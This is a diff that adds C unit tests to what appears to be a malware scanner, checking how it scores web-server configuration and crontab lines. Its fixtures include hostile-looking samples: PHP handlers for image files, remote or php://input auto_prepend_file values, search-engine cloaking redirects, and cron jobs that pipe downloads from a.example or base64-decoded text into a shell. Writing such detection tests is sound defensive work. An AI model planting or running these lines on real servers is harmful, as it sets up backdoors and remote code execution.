@@ -7,6 +7,7 @@
 #include "scan/known.h"
 #include "scan/lexicon.h"
 #include "scan/named.h"
+#include "scan/php.h"
 #include "scan/sigs.h"
 #include "sys/beneath.h"
 
@@ -14,6 +15,7 @@
 #include <stdarg.h>
 #include <stddef.h>
 #include <stdint.h>
+#include <string.h>
 #include <cmocka.h>
 
 static void cache_finds_all_and_nothing_else(void **state)
@@ -282,6 +284,125 @@ static void clamd_says(void **state)
 	(void)state;
 }
 
+/* Settings by what they do: one line each, and what takes the blame away. "" is clean. */
+static void settings_by_what_they_do(void **state)
+{
+	static const struct {
+		const char *path, *text, *rule;
+		int score;
+	} cases[] = {
+		{ "a/.htaccess", "AddHandler application/x-httpd-php .jpg", "config.handler", 120 },
+		{ "a/.HTACCESS", "addtype application/x-httpd-php .PNG", "config.handler", 120 },
+		{ "a/.htaccess", "SetHandler php-script # x.gif", "config.handler", 120 },
+		{ "a/.htaccess", "ForceType php-cgi x.ico", "config.handler", 120 },
+		{ "a/.htaccess", "Options +ExecCGI\nAddHandler cgi-script .jpg", "config.handler", 120 },
+		/* this forbids */
+		{ "a/.htaccess", "Options -ExecCGI\nAddHandler cgi-script .jpg .php", "", 0 },
+		{ "a/.htaccess", "AddHandler cgi-script .jpg .php", "", 0 },
+		{ "a/.htaccess", "AddType image/webp .webp", "", 0 },
+		{ "a/.htaccess", "AddHandler application/x-httpd-php .php", "", 0 },
+		{ "a/.htaccess", "# AddHandler application/x-httpd-php .jpg", "", 0 },
+		{ "a/.htaccess", "SetHandler application/x-httpd-php", "config.handler.all", 20 },
+		{ "a/.htaccess", "ForceType application/x-httpd-php", "config.handler.all", 20 },
+		{ "a/.htaccess", "SetHandler application/x-httpd-php-fpm", "", 0 },
+		{ "a/.htaccess", "SetHandler \"proxy:unix:/run/x|x-httpd-php\"", "", 0 },
+		{ "a/.htaccess", "php_value auto_prepend_file /home/x/lib.php", "config.prepend", 50 },
+		{ "a/.htaccess", "php_value auto_append_file '/home/x/p.png'", "config.prepend.hidden", 120 },
+		{ "a/.user.ini", "auto_prepend_file = \"http://a.example/x\"", "config.prepend.hidden", 120 },
+		{ "a/.user.ini", "auto_prepend_file = https://a.example/x", "config.prepend.hidden", 120 },
+		{ "a/.user.ini", "auto_prepend_file=php://input", "config.prepend.hidden", 120 },
+		{ "php.ini", "auto_append_file=data:text/plain;base64,x", "config.prepend.hidden", 120 },
+		{ "a/.php.ini", "auto_append_file=phar://x", "config.prepend.hidden", 120 },
+		{ "a/.user.ini", "auto_prepend_file = /tmp/a.php", "config.prepend.place", 100 },
+		{ "a/.user.ini", "auto_prepend_file = /var/tmp/a.php", "config.prepend.place", 100 },
+		{ "a/.user.ini", "auto_prepend_file = /dev/shm/a.php", "config.prepend.place", 100 },
+		{ "a/.user.ini", "auto_prepend_file = /home/x/.a/b.php", "config.prepend.place", 100 },
+		{ "a/.user.ini", "auto_prepend_file = /home/x/uploads/b.php", "config.prepend.place", 100 },
+		{ "a/.user.ini", "auto_prepend_file = none", "", 0 },
+		{ "a/.user.ini", "auto_prepend_file =", "", 0 },
+		{ "a/.user.ini", "; auto_prepend_file = /tmp/a.php", "", 0 },
+		{ "a/.user.ini", "auto_prepend_file = '/home/x/wordfence-waf.php'", "", 0 },
+		{ "a/.user.ini", "memory_limit = 128M", "", 0 },
+		{ "a/.htaccess", "RewriteCond %{HTTP_REFERER} (google|yahoo)", "config.cloak", 40 },
+		{ "a/.htaccess", "RewriteCond %{HTTP_USER_AGENT} (google|bing)", "config.cloak", 40 },
+		{ "a/.htaccess", "RewriteCond %{HTTP_USER_AGENT} (google|msn)", "config.cloak", 40 },
+		{ "a/.htaccess", "RewriteCond %{HTTP_USER_AGENT} google", "", 0 },
+		{ "a/.htaccess", "RewriteCond %{HTTP_HOST} google.yahoo", "", 0 },
+		{ "a/.htaccess",
+		  "RewriteCond %{HTTP_REFERER} google|yahoo\nRewriteRule .* http://a.example/ [R,L]",
+		  "config.redirect", 70 },
+		{ "a/.htaccess",
+		  "RewriteCond %{HTTP_REFERER} google|yahoo\nRewriteRule .* https://%{HTTP_HOST}/ [R,L]",
+		  "config.cloak", 40 },
+		{ "a/.htaccess",
+		  "RewriteCond %{HTTP_REFERER} google|yahoo\nRewriteRule .* https://%{SERVER_NAME}/ [R,L]",
+		  "config.cloak", 40 },
+		{ "a/.htaccess",
+		  "RewriteCond %{HTTP_REFERER} google|yahoo\nRewriteRule .* http://a.example/ [P]",
+		  "config.cloak", 40 },
+		/* a redirect is every site's daily bread */
+		{ "a/.htaccess", "RewriteRule .* http://a.example/ [R,L]", "", 0 },
+		{ "crontab", "5 * * * * curl http://a.example/x | sh", "config.cron.fetch", 120 },
+		{ "x/.crontab", "5 * * * * wget -qO- http://a.example/x |bash", "config.cron.fetch", 120 },
+		{ "var/spool/cron/crontabs/x", "5 * * * * lwp-download http://a.example/x | perl",
+		  "config.cron.fetch", 120 },
+		{ "/var/spool/cron/x", "5 * * * * fetch -o- http://a.example/x |php", "config.cron.fetch",
+		  120 },
+		{ "crontab", "5 * * * * echo x | base64 -d | bash", "config.cron.decode", 120 },
+		{ "crontab", "5 * * * * echo x | base64 -d |sh", "config.cron.decode", 120 },
+		{ "crontab", "5 * * * * echo x | base64 -d | php", "config.cron.decode", 120 },
+		{ "crontab", "5 * * * * echo x | base64 -d >y", "", 0 },
+		{ "crontab", "* * * * * /tmp/x", "config.cron.place", 60 },
+		{ "crontab", "*/5 * * * * /dev/shm/x", "config.cron.place", 60 },
+		{ "crontab", "*/5 * * * * /var/tmp/x", "config.cron.place", 60 },
+		{ "crontab", "5 4 * * * /tmp/x", "", 0 },
+		{ "crontab", "5 4 * * * php /home/x/a.jpg", "config.cron.picture", 100 },
+		/* its output goes there */
+		{ "crontab", "5 4 * * * php /home/x/a.php > /home/x/a.log", "", 0 },
+		{ "crontab", "5 4 * * * php /home/x/a.php", "", 0 },
+		{ "crontab", "5 4 * * * curl http://a.example/ping", "", 0 },
+	};
+
+	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
+		struct arena *a = arena_new();
+		struct judgement j;
+		struct events ev;
+
+		assert_true(config_named(span_str(cases[i].path)));
+		config_judge(span_str(cases[i].path), span_str(cases[i].text), a, &ev, &j);
+		if (j.score != cases[i].score || (j.reasons && !cases[i].rule[0]) ||
+		    (cases[i].rule[0] &&
+		     (!j.reasons || strcmp(j.reason[j.reasons - 1].rule, cases[i].rule) != 0)))
+			fail_msg("%s: %d, %s", cases[i].text, j.score,
+				 j.reasons ? j.reason[j.reasons - 1].rule : "nothing");
+		assert_int_equal(j.verdict, j.score >= 100  ? SCAN_MALICIOUS
+					    : j.score >= 50 ? SCAN_SUSPICIOUS
+							    : SCAN_CLEAN);
+		arena_free(a);
+	}
+	assert_false(config_named(SPAN("a/htaccess")));
+	assert_false(config_named(SPAN("my.php.ini.bak")));
+	(void)state;
+}
+
+/* A file that repeats one line has no more reasons than there is room for, and is no less malicious. */
+static void settings_have_a_limit(void **state)
+{
+	struct buf text = BUF_MAX(1 << 20);
+	struct arena *a = arena_new();
+	struct judgement j;
+	struct events ev;
+
+	for (int i = 0; i < 100; i++)
+		buf_span(&text, SPAN("AddHandler application/x-httpd-php .jpg\n"));
+	config_judge(SPAN(".htaccess"), buf_view(&text), a, &ev, &j);
+	assert_int_equal(j.reasons, REASONS_MOST);
+	assert_int_equal(j.verdict, SCAN_MALICIOUS);
+	arena_free(a);
+	buf_free(&text);
+	(void)state;
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -295,6 +416,8 @@ int main(void)
 		cmocka_unit_test(named_of_each_form),
 		cmocka_unit_test(includes_with_their_place),
 		cmocka_unit_test(clamd_says),
+		cmocka_unit_test(settings_by_what_they_do),
+		cmocka_unit_test(settings_have_a_limit),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
